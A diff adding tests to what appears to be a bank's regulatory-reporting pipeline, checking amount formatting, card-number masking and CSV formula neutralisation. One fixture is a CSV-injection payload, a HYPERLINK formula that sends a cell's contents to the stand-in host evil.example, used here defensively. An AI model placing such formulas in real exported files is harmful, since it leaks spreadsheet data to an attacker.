@@ -8,7 +8,11 @@ with the values that used to fail the whole day's dbt build:
   screened by name, with no birth date;
 - money of any real size: a CNY 1e12 interbank-sized transfer, a USD 200 M transfer
   (converted to CNY and to USD), a USD 2 bn loan (its proceeds converted to CNY); each
-  reported (large-value report, exceptions), amounts exact to the cent.
+  reported (large-value report, exceptions), amounts exact to the cent;
+- an 11-digit amount (``14812345312.16``), which masking used to rewrite as a phone
+  number (``148****5312.16``), breaking the large-value JSON's schema and the run;
+- a customer named ``=HYPERLINK(...)`` (CSV injection) who receives money from a bank
+  card (personal financial information: masked like an ID number).
 """
 
 from __future__ import annotations
@@ -33,6 +37,8 @@ INVALID_IDS = {
     "C4": "110101209901011234",  # a birth date after the business date
 }
 TRILLION = Decimal("1000000000000.00")
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+CARD = "6222020200112233446"  # 19-digit debit card number, Luhn-valid
 
 
 def _csv_text(rows: list[list[str]]) -> bytes:
@@ -47,6 +53,7 @@ def _files() -> dict[str, bytes]:
         ["A3", "C3", "individual", "Karim Al-Masri", INVALID_IDS["C3"], "13900000003"],
         ["A4", "C4", "individual", "Sun Hao", INVALID_IDS["C4"], "13900000004"],
         ["A5", "C5", "entity", "Huabei Steel Group", "91110000100000000X", "01012345678"],
+        ["A6", "C6", "individual", FORMULA_NAME, "110101198506071234", "13900000006"],
     ]
     account_rows = [[*a, "CN", "", "2024-01-05 10:00:00", "active", "2025-06-02 09:00:00"] for a in accounts]
     transactions = [
@@ -64,6 +71,8 @@ def _files() -> dict[str, bytes]:
         ],
         ["T3", "A2", "debit", "200000000.00", "USD", "transfer", "11050162510000000002", "Li Qiang", "CN"],
         ["T4", "A3", "credit", "60000.00", "CNY", "cash", "", "", ""],
+        # an 11-digit amount (no phone number), received from a bank card (masked like an ID)
+        ["T5", "A6", "credit", "14812345312.16", "CNY", "transfer", CARD, "Zhang Wei", "CN"],
     ]
     txn_rows = [[t[0], t[1], "2025-06-02 12:00:00", *t[2:], "x"] for t in transactions]
     loan = (
@@ -156,3 +165,46 @@ def test_the_trillion_transfer_is_reported(run: Settings) -> None:
     assert [t["amount_cny"] for t in c2["transactions"]] == ["1436000000.00"]
     daily = (folder / "daily_exceptions.csv").read_text(encoding="utf-8")
     assert "C5|2025-06-02|entity_transfer|credit" in daily
+
+
+def _published_text(settings: Settings) -> dict[str, str]:
+    folder = settings.reports_dir / DAY.isoformat()
+    return {p.name: p.read_text(encoding="utf-8") for p in sorted(folder.iterdir()) if p.suffix != ".pdf"}
+
+
+def test_amounts_are_never_masked(run: Settings) -> None:
+    folder = run.reports_dir / DAY.isoformat()
+    content = json.loads((folder / "large_value_transactions.json").read_text(encoding="utf-8"))
+    c6 = next(d for d in content["customer_days"] if d["customer_id"] == "C6")
+    assert c6["amount_cny"] == "14812345312.16"
+    assert [(t["amount"], t["amount_cny"]) for t in c6["transactions"]] == [("14812345312.16",) * 2]
+    with (folder / "large_value_transactions.csv").open(newline="", encoding="utf-8") as handle:
+        row = next(r for r in csv.DictReader(handle) if r["customer_id"] == "C6")
+    assert row["amount_cny"] == "14812345312.16"
+    for name, text in _published_text(run).items():
+        assert "148****5312" not in text, name
+
+
+def test_bank_card_numbers_are_masked_everywhere(run: Settings) -> None:
+    folder = run.reports_dir / DAY.isoformat()
+    content = json.loads((folder / "large_value_transactions.json").read_text(encoding="utf-8"))
+    c6 = next(d for d in content["customer_days"] if d["customer_id"] == "C6")
+    assert c6["transactions"][0]["counterparty_account"] == "622202*********3446"
+    for name, text in _published_text(run).items():
+        assert CARD not in text, name
+    # a corporate account number is no card: shown as delivered
+    c2 = next(d for d in content["customer_days"] if d["customer_id"] == "C2")
+    assert c2["transactions"][0]["counterparty_account"] == "11050162510000000002"
+
+
+def test_formula_names_are_neutralised_in_csv_only(run: Settings) -> None:
+    folder = run.reports_dir / DAY.isoformat()
+    with (folder / "large_value_transactions.csv").open(newline="", encoding="utf-8") as handle:
+        row = next(r for r in csv.DictReader(handle) if r["customer_id"] == "C6")
+    assert row["full_name"] == "'" + FORMULA_NAME
+    assert row["amount_cny"] == "14812345312.16"
+    content = json.loads((folder / "large_value_transactions.json").read_text(encoding="utf-8"))
+    assert next(d for d in content["customer_days"] if d["customer_id"] == "C6")["full_name"] == FORMULA_NAME
+    with (folder / "daily_exceptions.csv").open(newline="", encoding="utf-8") as handle:
+        cells = [cell for r in csv.reader(handle) for cell in r]
+    assert not [c for c in cells if c.startswith(("=", "@", "+"))]
